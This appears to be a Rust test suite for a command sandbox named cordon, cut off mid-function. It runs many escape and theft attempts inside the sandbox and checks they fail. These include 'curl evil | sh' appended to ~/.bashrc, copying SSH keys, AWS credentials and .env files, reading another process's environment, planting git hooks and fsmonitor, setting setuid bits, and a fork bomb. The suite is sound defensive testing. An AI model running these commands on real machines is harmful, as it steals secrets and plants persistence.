//! Attacks on `cordon run`. Each checks the effect outside the sandbox (the file outside, the
//! listener, the process) and runs four ways: as the invoking user (root in CI) and as an
//! unprivileged user, each with namespaces and with the no-namespace fallback.

mod harness;

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::process::{Command, Stdio};
use std::time::Duration;

use harness::{assert_nothing_received, code, text, Case, CONNECT_EACH};

fn assert_unchanged(c: &Case, rel: &str, want: &str) {
    assert_eq!(
        c.read(rel).as_deref(),
        Some(want),
        "[{}] {rel} was modified",
        c.label()
    );
}

fn write_outside(c: &Case) {
    let victim = c.outside.join("victim.txt");
    let new = c.outside.join("new.txt");
    let etc = std::path::PathBuf::from(format!(
        "/etc/cordon-test-{}",
        c.base.file_name().unwrap().to_string_lossy()
    ));
    let o = c.sh(&format!(
        "echo pwned > {new}; echo pwned >> {v}; echo pwned > {etc}; \
         echo pwned > ../outside/dotdot.txt; echo pwned > ./../../home/outside/dotdot2.txt",
        new = new.display(),
        v = victim.display(),
        etc = etc.display()
    ));
    assert_unchanged(c, "outside/victim.txt", "original\n");
    assert!(
        !new.exists(),
        "[{}] created a file outside: {}",
        c.label(),
        text(&o)
    );
    assert!(!c.outside.join("dotdot.txt").exists() && !c.outside.join("dotdot2.txt").exists());
    assert!(!etc.exists(), "[{}] wrote to /etc", c.label());
    // The workspace itself is writable.
    // The workspace itself is writable (in the fallback, not its top level: see the README).
    let o = c.sh("mkdir -p out/sub/dir && echo ok > out/sub/dir/f");
    assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
    assert_eq!(
        std::fs::read_to_string(c.ws.join("out/sub/dir/f")).unwrap(),
        "ok\n"
    );
    if !c.fallback {
        let o = c.sh("echo ok > inside.txt");
        assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
        assert!(c.ws.join("inside.txt").exists());
    }
}

fn write_through_symlink(c: &Case) {
    // A symlink planted in the workspace before the run, and one made inside it.
    std::os::unix::fs::symlink(c.outside.join("victim.txt"), c.ws.join("link")).unwrap();
    c.chown_all();
    let o = c.sh(&format!(
        "echo pwned > link; ln -s {o}/made.txt l2; echo pwned > l2; ln -s {o} dirlink; echo pwned > dirlink/viadir.txt",
        o = c.outside.display()
    ));
    assert_unchanged(c, "outside/victim.txt", "original\n");
    assert!(
        !c.outside.join("made.txt").exists(),
        "[{}] {}",
        c.label(),
        text(&o)
    );
    assert!(!c.outside.join("viadir.txt").exists());
}

fn write_through_hardlink(c: &Case) {
    let o = c.sh(&format!(
        "ln {v} hl && echo pwned >> hl; ln ~/.bashrc rc && echo pwned >> rc",
        v = c.outside.join("victim.txt").display()
    ));
    assert_unchanged(c, "outside/victim.txt", "original\n");
    assert_unchanged(c, ".bashrc", "# bashrc\n");
    let _ = o;
}

fn append_bashrc(c: &Case) {
    let o = c.sh("echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.profile; mkdir -p ~/.local/bin && echo x > ~/.local/bin/git");
    assert_unchanged(c, ".bashrc", "# bashrc\n");
    assert!(
        c.read(".profile").is_none() && c.read(".local/bin/git").is_none(),
        "[{}] {}",
        c.label(),
        text(&o)
    );
}

/// `--workspace ~` on purpose: the home's secret directories and the secret files the workspace
/// scan finds inside them (~/.ssh/id_rsa) overlap; the run must still start, with both hidden.
fn home_as_workspace(c: &Case) {
    let home = c.home.to_str().unwrap();
    let o = c.cordon(&[
        "run",
        "--workspace",
        home,
        "--cwd",
        home,
        "--",
        "sh",
        "-c",
        "cat .ssh/id_rsa .aws/credentials > proj/out/stolen.txt 2>/dev/null; echo written > proj/out/ok.txt; cat .ssh/id_rsa",
    ]);
    let out = text(&o);
    assert_eq!(
        std::fs::read_to_string(c.ws.join("out/ok.txt")).unwrap_or_default(),
        "written\n",
        "[{}] the run did not start: {out}",
        c.label()
    );
    let stolen = std::fs::read_to_string(c.ws.join("out/stolen.txt")).unwrap_or_default();
    for m in ["SECRET-SSH-KEY-MARKER", "SECRET-AWS-MARKER"] {
        assert!(
            !out.contains(m) && !stolen.contains(m),
            "[{}] {m} read: {out}",
            c.label()
        );
    }
}

fn read_secrets(c: &Case) {
    c.write("proj/.env", "DB_PASSWORD=SECRET-DOTENV-MARKER\n");
    c.write("proj/config/.env.local", "SECRET-NESTED-DOTENV-MARKER\n");
    c.write("proj/certs/server.key", "SECRET-KEY-FILE-MARKER\n");
    c.write("proj/.env.example", "EXAMPLE=visible\n");
    c.chown_all();
    let o = c.sh(
        "cat ~/.ssh/id_rsa ~/.aws/credentials .env config/.env.local certs/server.key > out/stolen.txt 2>/dev/null; \
         cat ~/.ssh/id_rsa ~/.aws/credentials .env config/.env.local certs/server.key; \
         cp -r ~/.ssh out/sshcopy; tar cf out/t.tar ~/.aws .env 2>/dev/null; cat .env.example",
    );
    let out = text(&o);
    let stolen = std::fs::read_to_string(c.ws.join("out/stolen.txt")).unwrap_or_default();
    let tar = std::fs::read(c.ws.join("out/t.tar")).unwrap_or_default();
    for m in [
        "SECRET-SSH-KEY-MARKER",
        "SECRET-AWS-MARKER",
        "SECRET-DOTENV-MARKER",
        "SECRET-NESTED-DOTENV-MARKER",
        "SECRET-KEY-FILE-MARKER",
    ] {
        assert!(!out.contains(m), "[{}] {m} read: {out}", c.label());
        assert!(
            !stolen.contains(m),
            "[{}] {m} copied into the workspace",
            c.label()
        );
        assert!(
            !String::from_utf8_lossy(&tar).contains(m),
            "[{}] {m} archived",
            c.label()
        );
    }
    assert!(
        !c.ws.join("out/sshcopy/id_rsa").exists()
            || std::fs::read_to_string(c.ws.join("out/sshcopy/id_rsa"))
                .unwrap_or_default()
                .is_empty()
    );
    assert!(
        out.contains("EXAMPLE=visible"),
        "[{}] .env.example must stay readable: {out}",
        c.label()
    );
    // The secret files themselves are untouched.
    assert_eq!(
        c.read("proj/.env").as_deref(),
        Some("DB_PASSWORD=SECRET-DOTENV-MARKER\n")
    );
}

fn read_secret_with_flag(c: &Case) {
    let key = c.home.join(".aws/credentials");
    let o = c.cordon(&[
        "run",
        "--read-secret",
        key.to_str().unwrap(),
        "--",
        "cat",
        key.to_str().unwrap(),
    ]);
    assert!(
        text(&o).contains("SECRET-AWS-MARKER"),
        "[{}] --read-secret must let it through: {}",
        c.label(),
        text(&o)
    );
    // ...and only that one.
    let o = c.cordon(&[
        "run",
        "--read-secret",
        key.to_str().unwrap(),
        "--",
        "cat",
        c.home.join(".ssh/id_rsa").to_str().unwrap(),
    ]);
    assert!(!text(&o).contains("SECRET-SSH-KEY-MARKER"));
}

fn secret_env(c: &Case) {
    let o = c
        .command(&[
            "run",
            "--env",
            "INNOCENT",
            "--env",
            "DATABASE_URL",
            "--",
            "sh",
            "-c",
            "env > out/envdump.txt",
        ])
        .env(
            "AWS_SECRET_ACCESS_KEY",
            "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        )
        .env("GITHUB_TOKEN", "ghp_SECRETMARKER0123456789abcdefghijklmnop")
        .env("INNOCENT", "ghp_SECRETMARKER9876543210abcdefghijklmnop")
        .env("DATABASE_URL", "postgres://app:SECRETPASSWORD@db/app")
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "[{}] {}", c.label(), text(&o));
    let dump = std::fs::read_to_string(c.ws.join("out/envdump.txt")).unwrap();
    for m in ["wJalrXUtnFEMI", "SECRETMARKER", "SECRETPASSWORD"] {
        assert!(
            !dump.contains(m),
            "[{}] {m} leaked into the environment:\n{dump}",
            c.label()
        );
    }
    assert!(dump.contains("HOME="));
    // --dry-run says what was dropped, by name only.
    let o = c
        .command(&["run", "--dry-run", "--env", "INNOCENT", "--", "true"])
        .env("INNOCENT", "ghp_SECRETMARKER9876543210abcdefghijklmnop")
        .output()
        .unwrap();
    let j = String::from_utf8_lossy(&o.stdout);
    assert!(
        j.contains("\"INNOCENT\"") && !j.contains("SECRETMARKER"),
        "{j}"
    );
}

/// Starts a process outside the sandbox with a secret in its environment.
fn outside_process(c: &Case) -> std::process::Child {
    let mut cmd = Command::new("sleep");
    cmd.arg("60")
        .env("OUTSIDE_SECRET", "SECRET-PROC-ENV-MARKER")
        .stdout(Stdio::null());
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 && c.who == harness::Who::Unprivileged {
        use std::os::unix::process::CommandExt;
        cmd.uid(c.uid).gid(c.gid);
    }
    cmd.spawn().unwrap()
}

fn other_process(c: &Case) {
    let mut victim = outside_process(c);
    let pid = victim.id();
    let o = c.sh(&format!(
        "cat /proc/{pid}/environ > out/environ.txt; kill -9 {pid}; kill -STOP {pid}; \
         python3 -c 'import ctypes; l=ctypes.CDLL(None,use_errno=True); print(\"ptrace\", l.ptrace(16,{pid},0,0), ctypes.get_errno())'"
    ));
    let stolen = std::fs::read_to_string(c.ws.join("out/environ.txt")).unwrap_or_default();
    assert!(
        !stolen.contains("SECRET-PROC-ENV-MARKER"),
        "[{}] read another process's environment",
        c.label()
    );
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        victim.try_wait().unwrap().is_none(),
        "[{}] the process outside was killed: {}",
        c.label(),
        text(&o)
    );
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    assert!(
        status.contains("TracerPid:\t0"),
        "[{}] traced: {status}",
        c.label()
    );
    assert!(
        !status.contains("State:\tT"),
        "[{}] stopped: {status}",
        c.label()
    );
    assert!(
        text(&o).contains("ptrace -1"),
        "[{}] {}",
        c.label(),
        text(&o)
    );
    victim.kill().unwrap();
    victim.wait().unwrap();
}

fn accepts_within(l: &TcpListener, d: Duration) -> bool {
    l.set_nonblocking(true).unwrap();
    let end = std::time::Instant::now() + d;
    while std::time::Instant::now() < end {
        if l.accept().is_ok() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

fn network(c: &Case) {
    let l4 = TcpListener::bind("127.0.0.1:0").unwrap();
    let p4 = l4.local_addr().unwrap().port();
    let l6 = TcpListener::bind("[::1]:0").ok();
    let p6 = l6
        .as_ref()
        .map(|l| l.local_addr().unwrap().port())
        .unwrap_or(1);
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let pu = udp.local_addr().unwrap().port();
    udp.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let script = format!(
        "import socket\n\
         def t(f,a):\n  try:\n    s=socket.socket(f,socket.SOCK_STREAM); s.settimeout(1); s.connect(a); s.send(b'x'); print('CONNECTED',a)\n  except Exception as e: print('refused',a,e)\n\
         t(socket.AF_INET,('127.0.0.1',{p4}))\n\
         t(socket.AF_INET6,('::1',{p6}))\n\
         try:\n  u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.sendto(b'leak',('127.0.0.1',{pu})); print('udp sent')\n\
         except Exception as e: print('udp refused',e)\n\
         try:\n  socket.getaddrinfo('example.com',80); print('DNS RESOLVED')\n\
         except Exception as e: print('dns refused',e)\n"
    );
    std::fs::write(c.ws.join("net.py"), script).unwrap();
    c.chown_all();
    let o = c.cordon(&["run", "--", "python3", "net.py"]);
    let out = text(&o);
    assert!(
        !accepts_within(&l4, Duration::from_millis(300)),
        "[{}] IPv4 connection reached the host: {out}",
        c.label()
    );
    if let Some(l6) = &l6 {
        assert!(
            !accepts_within(l6, Duration::from_millis(100)),
            "[{}] IPv6 connection reached the host: {out}",
            c.label()
        );
    }
    let mut buf = [0u8; 16];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "[{}] UDP datagram reached the host: {out}",
        c.label()
    );
    assert!(
        !out.contains("CONNECTED") && !out.contains("DNS RESOLVED"),
        "[{}] {out}",
        c.label()
    );
}

fn unix_socket(c: &Case) {
    // An agent socket in the home directory (1Password-style) and one named by SSH_AUTH_SOCK.
    let dir = c.home.join(".agent");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("agent.sock");
    let l = UnixListener::bind(&path).unwrap();
    c.chown_all();
    l.set_nonblocking(true).unwrap();
    let o = c
        .command(&[
            "run",
            "--",
            "python3",
            "-c",
            &format!(
                "import socket\ns=socket.socket(socket.AF_UNIX)\ntry:\n  s.connect('{}'); s.send(b'x'); print('CONNECTED')\nexcept Exception as e: print('refused', e)",
                path.display()
            ),
        ])
        .env("SSH_AUTH_SOCK", &path)
        .output()
        .unwrap();
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        l.accept().is_err(),
        "[{}] unix socket outside was reached: {}",
        c.label(),
        text(&o)
    );
    assert!(!text(&o).contains("CONNECTED"));
}

/// Connects (stream) or sends (datagram) to each path given, printing what happened.
fn unix_sockets_anywhere(c: &Case) {
    // Where the user's daemons put sockets: XDG directories (not walked by any scan), deep paths,
    // a tool's own dot-directory, the home's top level, a directory outside the home; and one
    // datagram socket. Each is found in the kernel's socket table.
    let rels = [
        ".local/share/x/sock",
        ".cache/y.sock",
        ".local/share/a/b/c/d/e/sock",
        ".tool/run/x/y/z/a.sock",
        "agent.sock",
        "../srv/daemon/d.sock",
    ];
    let ls: Vec<(String, UnixListener)> = rels
        .iter()
        .map(|r| (r.to_string(), c.listen_at(r)))
        .collect();
    let dgram_path = c.home.join(".cache/d.dgram");
    let dgram = std::os::unix::net::UnixDatagram::bind(&dgram_path).unwrap();
    dgram.set_nonblocking(true).unwrap();
    c.write(".cache/readme", "cached file\n");
    c.chown_all();
    let mut args = vec!["run", "--", "python3", "-c", CONNECT_EACH];
    let paths: Vec<String> = rels
        .iter()
        .map(|r| c.home.join(r).display().to_string())
        .chain([dgram_path.display().to_string()])
        .collect();
    args.extend(paths.iter().map(String::as_str));
    let o = c.cordon(&args);
    std::thread::sleep(Duration::from_millis(100));
    let out = text(&o);
    assert!(
        out.contains("refused"),
        "[{}] the command did not try: {out}",
        c.label()
    );
    assert_nothing_received(c, &ls, &out);
    let mut b = [0u8; 8];
    assert!(
        dgram.recv(&mut b).is_err(),
        "[{}] the datagram socket outside got a datagram: {out}",
        c.label()
    );
    // The directories shown without their sockets still read as before.
    let o = c.cordon(&[
        "run",
        "--",
        "cat",
        c.home.join(".cache/readme").to_str().unwrap(),
    ]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "cached file\n",
        "[{}] {}",
        c.label(),
        text(&o)
    );
}

fn unix_sockets_created_later(c: &Case) {
    // A long-running sandbox; then, outside, a daemon restarts (deletes and re-creates its
    // socket) and others start, in the XDG directories and in a tool's directory that held a
    // socket at the start.
    let mut ls = vec![
        (
            ".local/share/x/sock".to_string(),
            c.listen_at(".local/share/x/sock"),
        ),
        (
            ".tool/run/a.sock".to_string(),
            c.listen_at(".tool/run/a.sock"),
        ),
    ];
    std::fs::create_dir_all(c.home.join(".cache")).unwrap();
    c.chown_all();
    let later = [
        ".local/share/x/sock",
        ".cache/later.sock",
        ".local/share/newapp/sock",
        ".tool/run/b.sock",
        ".tool/new/c.sock",
    ];
    let run = c.connect_later("", &later, &[]);
    // The restart: the old listener goes, its file is deleted, a new one is bound there.
    ls.remove(0);
    let (out, more) = run.bind_and_go(c, &later);
    ls.extend(more);
    assert_nothing_received(c, &ls, &out);
}

fn abstract_socket(c: &Case) {
    // Abstract unix sockets have no file to cover: the network namespace (and Landlock ABI 6's
    // scope, and in the fallback seccomp) must keep the command away from them.
    use std::os::linux::net::SocketAddrExt;
    let name = format!(
        "cordon-test-{}",
        c.base.file_name().unwrap().to_string_lossy()
    );
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    let o = c.cordon(&[
        "run",
        "--",
        "python3",
        "-c",
        &format!("import socket\ntry:\n  s=socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); s.send(b'x'); print('CONNECTED')\nexcept Exception as e: print('refused', e)"),
    ]);
    std::thread::sleep(Duration::from_millis(100));
    assert!(
        l.accept().is_err(),
        "[{}] abstract socket outside was reached: {}",
        c.label(),
        text(&o)
    );
    assert!(text(&o).contains("refused"), "[{}] {}", c.label(), text(&o));
}

fn kernel_surface(c: &Case) {
    // Each line prints the errno of a syscall that must be refused by the filter (EPERM = 1):
    // io_uring_setup, x32 ptrace (bit 30 set), keyctl, bpf, userfaultfd, perf_event_open,
    // unshare(CLONE_NEWUSER), mount, TIOCSTI on stdin, clone3 (ENOSYS = 38).
    let script = r#"
import ctypes, os
l = ctypes.CDLL(None, use_errno=True)
sc = l.syscall
sc.restype = ctypes.c_long
def e(name, *a):
    ctypes.set_errno(0)
    r = sc(*[ctypes.c_long(x) for x in a])
    print(name, r, ctypes.get_errno())
buf = ctypes.create_string_buffer(256)
e('io_uring_setup', 425, 8, ctypes.addressof(buf))
e('x32_ptrace', 0x40000000 | 101, 0, 0, 0, 0)
e('x32_getpid', 0x40000000 | 39)
e('keyctl', 250, 0, 0)
e('bpf', 321, 0, 0, 0)
e('userfaultfd', 323, 0)
e('perf_event_open', 298, 0, 0, -1, -1, 0)
e('unshare_user', 272, 0x10000000)
e('unshare_net', 272, 0x40000000)
e('mount', 165, 0, 0, 0, 0, 0)
e('clone3', 435, 0, 0)
c = ctypes.c_char(b'x')
e('tiocsti', 16, 0, 0x5412, ctypes.addressof(c))
e('tiocsti_highbits', 16, 0, 0x100005412, ctypes.addressof(c))
"#;
    std::fs::write(c.ws.join("k.py"), script).unwrap();
    c.chown_all();
    let o = c.cordon(&["run", "--", "python3", "k.py"]);
    let out = String::from_utf8_lossy(&o.stdout).to_string();
    for name in [
        "io_uring_setup",
        "x32_ptrace",
        "x32_getpid",
        "keyctl",
        "bpf",
        "userfaultfd",
        "perf_event_open",
        "unshare_user",
        "unshare_net",
        "mount",
        "tiocsti",
        "tiocsti_highbits",
    ] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_else(|| panic!("[{}] no {name}: {}", c.label(), text(&o)));
        assert!(
            line.ends_with(" -1 1"),
            "[{}] {name} not refused with EPERM: {line}",
            c.label()
        );
    }
    assert!(
        out.lines().any(|l| l == "clone3 -1 38"),
        "[{}] clone3 must be ENOSYS: {out}",
        c.label()
    );
    // The real tools fail too, and leave nothing behind.
    let o = c.sh(
        "unshare -Ur true && echo NESTED-USERNS; mkdir -p m; mount -t tmpfs none m && echo MOUNTED",
    );
    assert!(
        !text(&o).contains("NESTED-USERNS") && !text(&o).contains("MOUNTED"),
        "[{}] {}",
        c.label(),
        text(&o)
    );
}

/// The i386 syscall table (`int 0x80`) is not filtered by number: the process is killed.
fn int80(c: &Case) {
    let src = c.ws.join("int80.c");
    std::fs::write(
        &src,
        "int main(void){ long r; __asm__ volatile(\"int $0x80\" : \"=a\"(r) : \"a\"(20L)); return r > 0 ? 0 : 3; }\n",
    )
    .unwrap();
    let bin = c.ws.join("int80");
    let st = Command::new("cc").arg("-o").arg(&bin).arg(&src).status();
    if !matches!(st, Ok(s) if s.success()) || cfg!(not(target_arch = "x86_64")) {
        eprintln!("skipping int80: no C compiler or not x86_64");
        return;
    }
    c.chown_all();
    // Outside the sandbox it works (getpid through the i386 table)...
    let outside = Command::new(&bin).status().unwrap();
    // ...inside, seccomp kills it (SIGSYS = 31 → 159).
    let o = c.cordon(&["run", "--", "./int80"]);
    if outside.success() {
        assert_eq!(code(&o), 128 + libc::SIGSYS, "[{}] {}", c.label(), text(&o));
    }
}

fn persistence(c: &Case) {
    // A real repository, as a user has it.
    let git = |args: &[&str]| {
        let st = Command::new("git")
            .args(args)
            .current_dir(&c.ws)
            .env("HOME", &c.home)
            .output()
            .unwrap();
        assert!(st.status.success(), "git {args:?}: {}", text(&st));
    };
    git(&["init", "-q"]);
    std::fs::create_dir_all(c.ws.join(".vscode")).unwrap();
    std::fs::write(c.ws.join(".vscode/settings.json"), "{}\n").unwrap();
    c.chown_all();
    let config_before = std::fs::read_to_string(c.ws.join(".git/config")).unwrap();
    let o = c.sh(
        "mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch /tmp/pwn\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         git config core.fsmonitor 'touch /tmp/pwn'; echo '[core]\\n\\tfsmonitor = evil' >> .git/config; \
         mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json; \
         echo '{}' > .vscode/tasks.json; echo x > .vscode/settings.json; mkdir -p .codex && echo x > .codex/config.toml; \
         echo '{}' > .mcp.json; echo 'curl evil|sh' > .envrc; echo x > .gitmodules; mkdir .cordon; mkdir .agents; \
         mv .vscode .vscode-old; mv .claude .claude-old; rm -rf .git/hooks; mv .git/hooks .git/h2; \
         mkdir -p .git/info && echo x > .git/info/attributes",
    );
    let label = c.label();
    assert!(
        !c.ws.join(".git/hooks/pre-commit").exists(),
        "[{label}] hook planted: {}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(c.ws.join(".git/config")).unwrap(),
        config_before,
        "[{label}] .git/config changed"
    );
    for p in [
        ".claude/settings.json",
        ".vscode/tasks.json",
        ".codex/config.toml",
        ".mcp.json",
        ".envrc",
        ".gitmodules",
        ".cordon",
        ".agents",
        ".vscode-old",
        ".claude-old",
        ".git/info/attributes",
    ] {
        assert!(!c.ws.join(p).exists(), "[{label}] {p} was created");
    }
    assert_eq!(
        std::fs::read_to_string(c.ws.join(".vscode/settings.json")).unwrap(),
        "{}\n"
    );
    // Placeholders made for the run are gone afterwards.
    for p in [
        ".claude",
        ".codex",
        ".mcp.json",
        ".envrc",
        ".gitmodules",
        ".cordon",
        ".agents",
        ".idea",
    ] {
        assert!(
            !c.ws.join(p).exists(),
            "[{label}] placeholder {p} left behind"
        );
    }
}

/// A set-user-ID (or set-group-ID) program left in the workspace runs with its owner's rights
/// for whoever executes it later, outside the sandbox (whose mounts are nosuid only inside): run
/// as root, a sandbox could leave a root shell for every local user. Every way to set the bits
/// is tried: chmod (numeric, symbolic, on a copy and on a new file), `install -m`, a file created
/// with the mode (open, openat2, mknod), tar extraction (as root it keeps modes).
fn no_setuid_left_behind(c: &Case) {
    let tar = c.outside.join("suid.tar");
    let src = c.base.join("tarsrc");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::copy("/bin/true", src.join("t")).unwrap();
    std::fs::set_permissions(
        src.join("t"),
        std::os::unix::fs::PermissionsExt::from_mode(0o6755),
    )
    .unwrap();
    let st = Command::new("tar")
        .arg("cf")
        .arg(&tar)
        .arg("-C")
        .arg(&src)
        .arg("t")
        .status()
        .unwrap();
    assert!(st.success());
    c.chown_all();
    let o = c.sh(&format!(
        "cd out; cp /bin/true a; chmod 4755 a; cp /bin/true b; chmod u+s,g+s b; \
         cp /bin/true c; chmod 2755 c; install -m 4755 /bin/true d; \
         tar xpf {tar} 2>&1; \
         python3 -c '
import ctypes, os, struct
l = ctypes.CDLL(None, use_errno=True)
for name, f in [
    (\"open\", lambda: os.close(os.open(\"e\", os.O_CREAT | os.O_WRONLY, 0o4755))),
    (\"chmod\", lambda: (open(\"f\", \"w\").close(), os.chmod(\"f\", 0o6755))),
    (\"fchmod\", lambda: os.fchmod(os.open(\"g\", os.O_CREAT | os.O_WRONLY, 0o755), 0o4755)),
    (\"mknod\", lambda: os.mknod(\"h\", 0o104755)),
    (\"openat2\", lambda: print(\"openat2\", l.syscall(437, -100, b\"i\", struct.pack(\"QQQ\", os.O_CREAT | os.O_WRONLY, 0o4755, 0), 24))),
    (\"fchmodat2\", lambda: (open(\"j\", \"w\").close(), print(\"fchmodat2\", l.syscall(452, -100, b\"j\", 0o4755, 0)))),
]:
    try:
        f()
    except OSError as e:
        print(name, e)
'; ls -l",
        tar = tar.display()
    ));
    let mut found = Vec::new();
    for e in std::fs::read_dir(c.ws.join("out")).unwrap().flatten() {
        let mode = std::os::unix::fs::PermissionsExt::mode(&e.metadata().unwrap().permissions());
        if mode & 0o6000 != 0 {
            found.push(format!("{} {:o}", e.file_name().to_string_lossy(), mode));
        }
    }
    assert!(
        found.is_empty(),
        "[{}] set-user/group-ID files left in the workspace: {found:?}\n{}",
        c.label(),
        text(&o)
    );
    // Ordinary modes still work.
    let o = c.sh("cp /bin/true out/x && chmod 755 out/x && ./out/x && echo ran");
    assert!(text(&o).contains("ran"), "[{}] {}", c.label(), text(&o));
}

fn no_git_repo_cannot_be_planted(c: &Case) {
    let o = c.sh("mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout; git init -q 2>&1");
    assert!(
        !c.ws.join(".git/hooks/post-checkout").exists(),
        "[{}] {}",
        c.label(),
        text(&o)
    );
    assert!(
        !c.ws.join(".git").exists(),
        "[{}] .git placeholder left behind",
        c.label()
    );
}

/// Daemons, `setsid` children and a process that keeps forking (racing the final kill) all die
/// before cordon returns.
fn daemon_left_behind(c: &Case) {
    // Each daemon keeps appending to the marker while it lives. What the sandbox's processes
    // wrote before the sandbox ended (on a loaded machine the command's 50 ms can stretch past
    // a daemon's first write) is no escape; any write after `cordon run` returned is.
    let marker = c.ws.join("out/daemon-alive");
    let o = c.sh(&format!(
        "setsid sh -c 'while :; do sleep 0.3; echo alive >> {m}; done' </dev/null >/dev/null 2>&1 & \
         nohup sh -c 'while :; do sleep 0.3; echo alive >> {m}; done' </dev/null >/dev/null 2>&1 & \
         sh -c 'while :; do sh -c \"sleep 1; echo alive >> {m}\" & done' </dev/null >/dev/null 2>&1 & \
         sleep 0.05; echo started",
        m = marker.display()
    ));
    assert!(text(&o).contains("started"));
    let at_exit = std::fs::read(&marker).ok();
    std::thread::sleep(Duration::from_millis(1800));
    assert_eq!(
        std::fs::read(&marker).ok(),
        at_exit,
        "[{}] a process outlived the sandbox (the marker changed after cordon returned)",
        c.label()
    );
}

fn cwd_widening(c: &Case) {
    // --cwd $HOME: the working directory moves, the writable root does not.
    let home = c.home.to_str().unwrap();
    let o = c.cordon(&[
        "run",
        "--cwd",
        home,
        "--",
        "sh",
        "-c",
        "pwd; echo pwned > pwned.txt; echo pwned > proj/out/ok.txt",
    ]);
    assert!(
        !c.home.join("pwned.txt").exists(),
        "[{}] --cwd widened the writable roots: {}",
        c.label(),
        text(&o)
    );
    assert!(
        c.ws.join("out/ok.txt").exists() || c.fallback,
        "[{}] {}",
        c.label(),
        text(&o)
    );
}

fn fd_leak(c: &Case) {
    // An inherited descriptor (fd 7, a file outside) must not reach the command.
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let f = std::fs::OpenOptions::new()
        .append(true)
        .open(c.outside.join("victim.txt"))
        .unwrap();
    let raw = f.as_raw_fd();
    let mut cmd = c.command(&[
        "run",
        "--",
        "sh",
        "-c",
        "echo pwned >&7; ls /proc/self/fd > out/fds.txt",
    ]);
    // SAFETY: the closure runs in the forked child before exec and makes only
    // async-signal-safe system calls.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(raw, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let o = cmd.output().unwrap();
    assert_unchanged(c, "outside/victim.txt", "original\n");
    let fds = std::fs::read_to_string(c.ws.join("out/fds.txt")).unwrap_or_default();
    assert!(
        !fds.lines().any(|l| l == "7"),
        "[{}] fd 7 leaked: {fds} {}",
        c.label(),
        text(&o)
    );
}

fn fork_bomb_limited(c: &Case) {
    // RLIMIT_NPROC binds only non-root users (the kernel exempts uid 0).
    if c.uid == 0 {
        return;
    }
    let script = "import os\nn=0\nkids=[]\ntry:\n  for i in range(400):\n    p=os.fork()\n    if p==0:\n      import time; time.sleep(5); os._exit(0)\n    kids.append(p); n+=1\nexcept OSError as e:\n  print('fork refused', e)\nprint('forked', n)\n";
    std::fs::write(c.ws.join("bomb.py"), script).unwrap();
    c.chown_all();
    let o = c.cordon(&[
        "run",
        "--limit-nproc",
        "64",
        "--timeout",
        "20s",
        "--",
        "python3",
        "bomb.py",
    ]);
    let out = text(&o);
    let n: usize = out
        .lines()
        .find_map(|l| l.strip_prefix("forked "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(999);
    assert!(n < 64, "[{}] fork bomb not limited: {out}", c.label());
}

fn timeout_kills_everything(c: &Case) {
    let marker = c.ws.join("out/still-running");
    let o = c.cordon(&[
        "run",
        "--timeout",
        "500ms",
        "--",
        "sh",
        "-c",
        &format!("(sleep 2; echo x > {}) & sleep 30", marker.display()),
    ]);
    assert_eq!(code(&o), 124, "[{}] {}", c.label(), text(&o));
    std::thread::sleep(Duration::from_millis(2500));
    assert!(
        !marker.exists(),
        "[{}] a process survived the timeout",
        c.label()
    );
}

fn exit_statuses(c: &Case) {
    assert_eq!(code(&c.sh("exit 3")), 3);
    assert_eq!(code(&c.sh("kill -TERM $$")), 128 + 15);
    assert_eq!(code(&c.cordon(&["run", "--", "no-such-command-xyz"])), 127);
    std::fs::write(c.ws.join("noexec.sh"), "#!/bin/sh\n").unwrap();
    c.chown_all();
    assert_eq!(code(&c.cordon(&["run", "--", "./noexec.sh"])), 126);
    assert_eq!(
        code(&c.cordon(&["run", "--mode", "bogus", "--", "true"])),
        125
    );
    assert_eq!(
        code(&c.cordon(&["run", "--workspace", "/nonexistent-dir", "--", "true"])),
        125
    );
    let mut child = c
        .command(&["run", "--", "sh", "-c", "read x; echo got-$x"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child.stdin.take().unwrap().write_all(b"hello\n").unwrap();
    let mut s = String::new();
    child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
    assert_eq!(s, "got-hello\n");
    assert!(child.wait().unwrap().success());
}

fn read_only_mode(c: &Case) {
    let o = c.cordon(&[
        "run",
        "--mode",
        "read-only",
        "--",
        "sh",
        "-c",
        "echo x > ro.txt; echo y > ${TMPDIR:-/tmp}/t && cat ${TMPDIR:-/tmp}/t",
    ]);
    assert!(
        !c.ws.join("ro.txt").exists(),
        "[{}] read-only mode wrote: {}",
        c.label(),
        text(&o)
    );
    assert!(
